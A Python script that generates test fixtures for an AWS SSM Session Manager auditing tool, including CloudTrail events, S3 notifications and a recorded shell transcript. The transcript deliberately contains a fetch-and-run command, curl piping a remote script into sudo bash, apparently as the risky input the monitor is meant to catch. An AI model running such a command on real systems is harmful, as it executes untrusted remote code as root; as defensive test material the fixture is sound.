"""Build the session ledger's fixtures in events/ledger-*: CloudTrail session calls, S3 and schedule events from
EventBridge, DescribeSessions answers, and the agent's plain-text upload of a command session's transcript.

Run from the repository root: .venv/bin/python tests/unit/make_ledger_fixtures.py
The files it writes are committed; tests/unit/test_ledger.py checks they still agree with this.

The plain-text upload follows the SSM Agent's code (aws/amazon-ssm-agent at 1c217c89b42d):
- agent/session/plugins/singlecommand/singlecommand.go: AWS-StartInteractiveCommand and
  AWS-StartNonInteractiveCommand set `CloudWatchStreamingEnabled = false`;
- agent/session/shell/shell.go, `finishLogging`: with a log group and streaming off, the session's `script`
  typescript (shell_unix.go `generateLogData`) is uploaded at the end with `StreamData(..., isFileComplete=true,
  ..., cleanupControlCharacters=false, structuredLogs=false)` to the log stream named after the session id;
- agent/agentlogstocloudwatch/cloudwatchlogspublisher/cloudwatchlogsservice.go, `getNextMessage` and
  `buildEventInfo`: whole lines are packed into one event up to `MessageLengthThresholdInBytes` (200,000 bytes),
  at most 4 events per PutLogEvents call; an event's text is the lines with `\\r\\n` turned into `\\n`, escapes kept,
  and (the file being complete) its trailing newline dropped. No JSON.
"""

from __future__ import annotations

import copy
import json
import sys
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
from make_event_fixtures import ACCOUNT_ID, FILTER_NAME, LOG_GROUP

EVENTS = Path(__file__).resolve().parents[2] / "events"
MESSAGE_LENGTH_THRESHOLD = 200 * 1000  # cloudwatchlogsservice.go MessageLengthThresholdInBytes
BUCKET = "sessionguard-transcripts-123456789012-us-east-1"
PREFIX = "sessions"
SHELL_SESSION = "jane.roe-0131a888507e892b1"  # events/cloudtrail-ssm-start-session-logged-shell.json
COMMAND_SESSION = "jane.roe-0c1d2e3f4a5b6c7d8"
QUIET_SESSION = "john.doe-0e5a7c9b1d3f2a4b6"

# What bash under AWS-StartInteractiveCommand printed, as `script` records it: CRLF line ends, the title escape
# the bash prompt sets, a backspace edit, and a risky command.
COMMAND_TRANSCRIPT = (
    "Script started on 2026-11-26 15:20:05+00:00 [<not executed on terminal>]\n"
    "\x1b]0;ec2-user@ip-10-0-1-23:~\x07[ec2-user@ip-10-0-1-23 ~]$ id\r\n"
    "uid=1000(ec2-user) gid=1000(ec2-user) groups=1000(ec2-user),4(adm),10(wheel)\r\n"
    "\x1b]0;ec2-user@ip-10-0-1-23:~\x07[ec2-user@ip-10-0-1-23 ~]$ curl -fsSL http://203.0.113.50/i.sh | sudo bahs"
    "\x08\x1b[K\x08\x1b[Ksh\r\n"
    "installing...\r\n"
    "\x1b]0;ec2-user@ip-10-0-1-23:~\x07[ec2-user@ip-10-0-1-23 ~]$ exit\r\n"
    "exit\r\n"
    "\r\n"
    'Script done on 2026-11-26 15:21:40+00:00 [COMMAND_EXIT_CODE="0"]\n'
)


def plain_text_messages(typescript: str, threshold: int = MESSAGE_LENGTH_THRESHOLD) -> list[str]:
    """The agent's non-structured events for a complete file (getNextMessage + buildEventInfo)."""
    messages: list[str] = []
    current = b""
    for line in typescript.encode().splitlines(keepends=True):
        if current and len(current) + len(line) > threshold:
            messages.append(_event_text(current))
            current = b""
        current += line
    if current:
        messages.append(_event_text(current))
    return messages


def _event_text(chunk: bytes) -> str:
    text = chunk.decode("utf-8", errors="replace").replace("\r\n", "\n")
    return text[:-1] if chunk.endswith(b"\n") else text


def plain_text_payload(session_id: str, typescript: str, first_ms: int) -> dict[str, Any]:
    """The decoded subscription payload carrying the upload (one PutLogEvents call; ids as CloudWatch makes)."""
    messages = plain_text_messages(typescript)
    return {
        "messageType": "DATA_MESSAGE",
        "owner": ACCOUNT_ID,
        "logGroup": LOG_GROUP,
        "logStream": session_id,
        "subscriptionFilters": [FILTER_NAME],
        "logEvents": [
            {
                "id": f"3928475601928374650192837465019283746501928374650192837{i:02d}",
                "timestamp": first_ms,
                "message": message,
            }
            for i, message in enumerate(messages)
        ],
    }


def cloudtrail(name: str, session_id: str, **changes: Any) -> dict[str, Any]:
    """A session call as EventBridge delivers it, from the StartSession sample."""
    event = json.loads((EVENTS / "cloudtrail-ssm-start-session-logged-shell.json").read_text())
    event = copy.deepcopy(event)
    detail = event["detail"]
    detail["eventName"] = name
    detail["responseElements"]["sessionId"] = session_id
    detail["responseElements"]["streamUrl"] = detail["responseElements"]["streamUrl"].replace(SHELL_SESSION, session_id)
    for key, value in changes.items():
        if key == "request":
            detail["requestParameters"] = value
        else:
            detail[key] = value
    if name == "TerminateSession":
        detail["requestParameters"] = {"sessionId": session_id}
        detail["responseElements"] = {"sessionId": session_id}
    return event


def s3_object_created(session_id: str, version_id: str, size: int, time: str) -> dict[str, Any]:
    """S3 EventBridge notification (bucket with EventBridge notifications on), as S3 sends it."""
    return {
        "version": "0",
        "id": "17793124-05d4-b198-2fde-7ededc63b103",
        "detail-type": "Object Created",
        "source": "aws.s3",
        "account": ACCOUNT_ID,
        "time": time,
        "region": "us-east-1",
        "resources": [f"arn:aws:s3:::{BUCKET}"],
        "detail": {
            "version": "0",
            "bucket": {"name": BUCKET},
            "object": {
                "key": f"{PREFIX}/{session_id}.log",
                "size": size,
                "etag": "b1946ac92492d2347c6235b4d2611184",
                "version-id": version_id,
                "sequencer": "00617F08299329D189",
            },
            "request-id": "N4N7GDK58NMKJ12R",
            "requester": ACCOUNT_ID,
            "source-ip-address": "10.0.1.23",
            "reason": "PutObject",
        },
    }


def main() -> None:
    write("ledger-subscription-plain-text.json", plain_text_payload(COMMAND_SESSION, COMMAND_TRANSCRIPT, 1795706500000))
    (EVENTS / f"ledger-transcript-{COMMAND_SESSION}.log").write_bytes(COMMAND_TRANSCRIPT.encode())
    bash = {
        "target": "i-0fedcba9876543210",
        "documentName": "AWS-StartInteractiveCommand",
        "parameters": {"command": ["bash"]},
        "reason": "fix cron; db password hunter2 rotated",
    }
    write(
        "ledger-cloudtrail-start-interactive-bash.json",
        cloudtrail("StartSession", COMMAND_SESSION, request=bash, eventTime="2026-11-26T15:20:03Z"),
    )
    write(
        "ledger-cloudtrail-terminate-session.json",
        cloudtrail("TerminateSession", SHELL_SESSION, eventTime="2026-11-26T15:30:41Z"),
    )
    write(
        "ledger-cloudtrail-resume-session.json",
        cloudtrail(
            "ResumeSession", SHELL_SESSION, eventTime="2026-11-26T15:12:09Z", request={"sessionId": SHELL_SESSION}
        ),
    )
    write(
        "ledger-s3-object-created.json",
        s3_object_created(SHELL_SESSION, "3HL4kqtJvjVBH40Nrjfkd", 1893, "2026-11-26T15:30:44Z"),
    )
    write(
        "ledger-scheduled-event.json",
        {
            "version": "0",
            "id": "89d1a02d-5ec7-412e-82f5-13505f849b41",
            "detail-type": "Scheduled Event",
            "source": "aws.events",
            "account": ACCOUNT_ID,
            "time": "2026-11-26T15:40:00Z",
            "region": "us-east-1",
            "resources": ["arn:aws:events:us-east-1:123456789012:rule/sessionguard-SessionLedgerReconcile"],
            "detail": {},
        },
    )
    # boto3's describe_sessions answer (botocore/data/ssm/2014-11-06/service-2.json, DescribeSessionsResponse),
    # dates as ISO strings (tests turn them into datetimes as botocore does).
    write(
        "ledger-describe-sessions-history.json",
        {
            "Sessions": [
                {
                    "SessionId": QUIET_SESSION,
                    "Target": "i-0a1b2c3d4e5f60718",
                    "Status": "Terminated",
                    "StartDate": "2026-11-26T15:00:02Z",
                    "EndDate": "2026-11-26T15:09:58Z",
                    "DocumentName": "SSM-SessionManagerRunShell",
                    "Owner": "arn:aws:sts::123456789012:assumed-role/Operator/john.doe",
                    "Reason": "",
                    "OutputUrl": {"S3OutputUrl": "", "CloudWatchOutputUrl": ""},
                }
            ],
        },
    )


def write(name: str, document: Any) -> None:
    (EVENTS / name).write_text(json.dumps(document, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
